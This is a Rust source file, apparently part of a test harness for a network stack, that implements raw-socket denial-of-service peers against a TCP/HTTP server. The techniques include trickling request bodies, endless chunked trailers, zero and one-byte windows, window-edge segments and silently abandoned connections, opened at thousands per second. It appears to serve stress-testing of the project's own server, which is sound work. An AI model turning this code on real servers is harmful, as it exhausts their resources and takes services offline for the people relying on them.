//! The peers that hold: each knows as much of TCP as it needs to stay connected.

use std::collections::{HashMap, VecDeque};
use std::sync::atomic::Ordering;
use std::thread;
use std::time::{Duration as Span, Instant as Moment};

use host::{StackConfig, Tuple};
use wire::{Control, SeqNum, WindowScale};

use super::{Holding, Meter};
use crate::Result;
use crate::hostile::{ATTACK, Addresses, OVER, PORT, RESET, SharedState};
use crate::raw::{self, RawDevice, ReceivedSegment};

/// New connections a second.
const OPEN_RATE: f64 = 2_500.0;
/// How long the server may take to answer a new connection before it is taken for refused.
const ANSWER_TIMEOUT: Span = Span::from_secs(1);
/// The window of a peer without window scaling.
const WINDOW: u16 = u16::MAX;
/// Resets at a time: no more than the device's queue holds.
const RESET_BATCH: usize = 16;

/// Attacks while it is time to. Returns how many packets were sent. `late` is when those act that
/// act as late as they can.
pub(super) fn holders(
    holding: Holding,
    addresses: Addresses,
    device: RawDevice,
    late: Span,
    shared: &SharedState,
    meter: &Meter,
) -> Result<u64> {
    let (opening, acting) = (VecDeque::new(), VecDeque::new());
    let mut holders = Holders {
        holding,
        addresses,
        device,
        late,
        peers: HashMap::new(),
        opening,
        acting,
        unreleased: Vec::new(),
    };
    let (mut begin, mut due) = (Moment::now(), 0.0);
    loop {
        let phase = shared.phase.load(Ordering::Relaxed);
        match phase {
            OVER => return Ok(holders.device.sent),
            ATTACK => {
                // What could not be done in time is not made up for at once.
                due = (due + begin.elapsed().as_secs_f64() * OPEN_RATE).min(OPEN_RATE / 50.0);
                while due >= 1.0 && holders.peers.len() < holding.connections() {
                    holders.open()?;
                    due -= 1.0;
                }
                holders.act()?;
            }
            RESET if !meter.all_reset.load(Ordering::Relaxed) => holders.reset(meter)?,
            _ => {}
        }
        begin = Moment::now();
        while let Some(heard) = holders.device.receive()? {
            if phase == ATTACK {
                holders.answer(&heard)?;
            }
        }
        thread::sleep(Span::from_micros(500));
    }
}

struct Holders {
    holding: Holding,
    addresses: Addresses,
    device: RawDevice,
    late: Span,
    peers: HashMap<Tuple, Peer>,
    /// Connections that must have been answered by then.
    opening: VecDeque<(Moment, Tuple)>,
    /// Connections that do something next.
    acting: VecDeque<(Moment, Tuple)>,
    /// What the server may still hold, though the peer doesn't: its next number to send.
    unreleased: Vec<(Tuple, SeqNum)>,
}

#[derive(Debug, Clone, Copy)]
struct Peer {
    /// The next number to send.
    next: SeqNum,
    /// The next number expected, if the server has answered.
    expected: Option<SeqNum>,
    /// What is left of its window.
    window_left: u16,
    /// It has been answered after the handshake.
    answered: bool,
    /// One of the other half.
    odd: bool,
    /// It has opened its window by a byte.
    window_opened: bool,
}

impl Holders {
    fn open(&mut self) -> Result<()> {
        let from = self.device.random_endpoint();
        let (local, local_port) = (from.ip(), from.port());
        let tuple = Tuple { local, remote: self.addresses.server, local_port, remote_port: PORT };
        let (seq, odd) = (SeqNum::new(self.device.draw()), self.device.draw().is_multiple_of(2));
        let peer = Peer {
            next: seq + 1,
            expected: None,
            window_left: WINDOW,
            answered: false,
            odd,
            window_opened: false,
        };
        self.peers.insert(tuple, peer);
        self.opening.push_back((Moment::now() + ANSWER_TIMEOUT, tuple));
        let mut syn = raw::syn(seq, false);
        if self.holding == Holding::WindowEdge {
            // Without it the server's window would end at 64 KiB.
            syn.options.window_scale = Some(WindowScale::clamped(7));
        }
        self.device.send(&tuple, &syn, &[])
    }

    /// Forgets a connection, and does not tell the server.
    fn forget(&mut self, tuple: &Tuple) {
        if let Some(peer) = self.peers.remove(tuple) {
            self.unreleased.push((*tuple, peer.next));
        }
    }

    /// Does what is due.
    fn act(&mut self) -> Result<()> {
        let now = Moment::now();
        while let Some((_, tuple)) = self.opening.pop_front_if(|(due, _)| *due <= now) {
            if self.peers.get(&tuple).is_some_and(|peer| !peer.answered) {
                self.forget(&tuple);
            }
        }
        let Some(interval) = self.interval() else { return Ok(()) };
        while let Some((due, tuple)) = self.acting.pop_front_if(|(due, _)| *due <= now) {
            let Some(peer) = self.peers.get_mut(&tuple) else { continue };
            let Some(expected) = peer.expected else { continue };
            let next = peer.next;
            self.acting.push_back((due + interval, tuple));
            match self.holding {
                Holding::TricklingBodies => {
                    peer.next = next + 1;
                    self.device.send(&tuple, &raw::plain(next, expected, WINDOW), b"x")?;
                }
                Holding::EndlessTrailers => {
                    let lines = b"A: 456\r\n".repeat(if peer.odd { 128 } else { 1 });
                    peer.next = next + u32::try_from(lines.len())?;
                    self.device.send(&tuple, &raw::plain(next, expected, WINDOW), &lines)?;
                }
                Holding::LateBytes if peer.odd => {
                    peer.window_opened = true;
                    self.device.send(&tuple, &raw::plain(next, expected, 1), &[])?;
                }
                Holding::LateBytes => {
                    peer.expected = Some(expected + 1);
                    self.device.send(&tuple, &raw::plain(next, expected + 1, WINDOW), &[])?;
                }
                Holding::WindowEdge | Holding::UnreadLists => {}
            }
        }
        Ok(())
    }

    /// Between two things that a connection does unasked.
    fn interval(&self) -> Option<Span> {
        match self.holding {
            Holding::TricklingBodies => Some(Span::from_secs(4)),
            Holding::EndlessTrailers => Some(Span::from_millis(250)),
            Holding::LateBytes => Some(self.late),
            Holding::WindowEdge | Holding::UnreadLists => None,
        }
    }

    /// Something came for somebody.
    fn answer(&mut self, heard: &ReceivedSegment) -> Result<()> {
        let ReceivedSegment { tuple, segment, payload } = heard;
        let Some(peer) = self.peers.get_mut(tuple) else { return Ok(()) };
        if segment.control == Control::Rst {
            self.peers.remove(tuple);
            return Ok(());
        }
        let Some(expected) = peer.expected else {
            if segment.control == Control::Syn {
                peer.expected = Some(segment.seq + 1);
                let mut peer = *peer;
                self.request(tuple, &mut peer)?;
                self.peers.insert(*tuple, peer);
                if let Some(interval) = self.interval() {
                    self.acting.push_back((Moment::now() + interval, *tuple));
                }
            }
            return Ok(());
        };
        peer.answered |= segment.control != Control::Syn;
        let in_order = segment.seq == expected;
        match self.holding {
            Holding::UnreadLists if !payload.is_empty() => {
                // As a program's kernel does when the program does not read.
                let payload_len = u16::try_from(payload.len())?;
                let taken = if in_order { payload_len.min(peer.window_left) } else { 0 };
                peer.window_left -= taken;
                let expected = expected + u32::from(taken);
                peer.expected = Some(expected);
                self.device.send(tuple, &raw::plain(peer.next, expected, peer.window_left), &[])?;
            }
            Holding::TricklingBodies | Holding::EndlessTrailers
                if in_order && segment.seq_len() > 0 =>
            {
                let expected = expected + segment.seq_len();
                peer.expected = Some(expected);
                self.device.send(tuple, &raw::plain(peer.next, expected, WINDOW), &[])?;
            }
            Holding::LateBytes if peer.odd && !payload.is_empty() => {
                let taken = u32::from(std::mem::take(&mut peer.window_opened) && in_order);
                peer.expected = Some(expected + taken);
                self.device.send(tuple, &raw::plain(peer.next, expected + taken, 0), &[])?;
            }
            _ => {}
        }
        if segment.control == Control::Fin {
            // The server is done with it. It has to find out by itself that nobody is there any
            // more.
            self.forget(tuple);
        }
        Ok(())
    }

    /// Completes the handshake, and begins.
    fn request(&mut self, tuple: &Tuple, peer: &mut Peer) -> Result<()> {
        let (from, ack) = (peer.next, peer.expected.unwrap_or(peer.next));
        if self.holding == Holding::WindowEdge {
            self.device.send(tuple, &raw::plain(from, ack, WINDOW), &[])?;
            let edge = from + (StackConfig::new(Vec::new()).tcp.receive_buffer - 1);
            return self.device.send(tuple, &raw::plain(edge, ack, WINDOW), b"x");
        }
        let (line, fields) = match self.holding {
            Holding::UnreadLists => ("GET /many/", ""),
            Holding::TricklingBodies => ("HEAD /small", "Content-Length: 60000\r\n"),
            Holding::EndlessTrailers => ("HEAD /small", "Transfer-Encoding: chunked\r\n"),
            Holding::WindowEdge | Holding::LateBytes => ("GET /big", ""),
        };
        let chunk = if self.holding == Holding::EndlessTrailers { "0\r\n" } else { "" };
        let text = format!("{line} HTTP/1.1\r\nHost: x\r\n{fields}\r\n{chunk}");
        peer.next = from + u32::try_from(text.len())?;
        let window = if self.holding == Holding::LateBytes && peer.odd { 0 } else { WINDOW };
        self.device.send(tuple, &raw::plain(from, ack, window), text.as_bytes())
    }

    /// Resets a few of all connections; when that was the last one, tells so.
    fn reset(&mut self, meter: &Meter) -> Result<()> {
        self.unreleased.extend(self.peers.drain().map(|(tuple, peer)| (tuple, peer.next)));
        (self.opening, self.acting) = (VecDeque::new(), VecDeque::new());
        let kept = self.unreleased.len().saturating_sub(RESET_BATCH);
        for (tuple, next) in self.unreleased.drain(kept..) {
            // Twice: the first may be lost where others come in, too.
            for _ in 0..2 {
                self.device.send(&tuple, &raw::reset(next), &[])?;
            }
        }
        if self.unreleased.is_empty() {
            meter.all_reset.store(true, Ordering::Relaxed);
        }
        Ok(())
    }
}
